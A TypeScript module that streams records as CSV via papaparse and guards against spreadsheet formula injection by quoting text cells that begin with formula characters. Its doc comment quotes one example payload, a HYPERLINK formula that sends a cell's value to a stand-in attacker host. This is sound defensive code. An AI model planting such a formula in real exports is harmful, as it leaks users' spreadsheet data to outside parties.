import Papa from 'papaparse';
import { EXPORT_COLUMNS, columnValue, type ExportRecord } from './schema';

const encoder = new TextEncoder();
const COLUMN_NAMES = EXPORT_COLUMNS.map(([name]) => name);

/**
 * CSV formula injection (OWASP): a spreadsheet runs a cell starting with = + - @ TAB or CR as a
 * formula (`=HYPERLINK("http://evil.example/?x="&A1,"click")` as a run name). Such text cells get
 * a leading single quote, which the spreadsheet shows as text. Only strings: numbers such as -0.5
 * stay numbers. papaparse's own `escapeFormulae: true` uses /^[=+\-@\t\r].*$/, whose `.` stops
 * at a newline, so "=1\nx" would slip through; this pattern tests the first character only.
 */
export const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * CSV (RFC 4180, via papaparse's unparse: ~10x faster than csv-stringify on the long, quote-heavy
 * JSON cells, measured with bench:export) with a header row, one chunk per page. Nested columns
 * are their JSON text in one quoted cell; null is an empty cell; text that a spreadsheet would run
 * as a formula starts with a single quote (see FORMULA_START, docs/export-schema.md). An export with no rows is the
 * header alone, so a reader still learns the columns.
 */
export async function* csvChunks(pages: AsyncIterable<ExportRecord[]> | Iterable<ExportRecord[]>): AsyncGenerator<Uint8Array, void, undefined> {
  let first = true;
  for await (const page of pages) {
    if (page.length === 0) continue;
    const data = page.map((record) => COLUMN_NAMES.map((name) => columnValue(record, name) ?? ''));
    const text = Papa.unparse({ fields: COLUMN_NAMES, data }, { header: first, newline: '\n', escapeFormulae: FORMULA_START });
    yield encoder.encode(`${text}\n`);
    first = false;
  }
  if (first) yield encoder.encode(`${COLUMN_NAMES.join(',')}\n`);
}
